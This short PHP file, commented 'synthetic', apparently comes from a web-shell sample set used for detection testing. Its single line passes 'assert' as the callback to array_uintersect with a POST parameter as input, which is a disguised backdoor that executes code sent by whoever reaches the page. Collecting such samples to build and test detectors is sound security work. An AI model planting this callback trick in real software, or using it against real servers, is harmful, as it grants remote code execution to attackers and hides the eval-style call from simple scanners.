<?php
// synthetic: assert given as the comparison callback after array arguments
array_uintersect(array($_POST['v']), array(1), "assert");
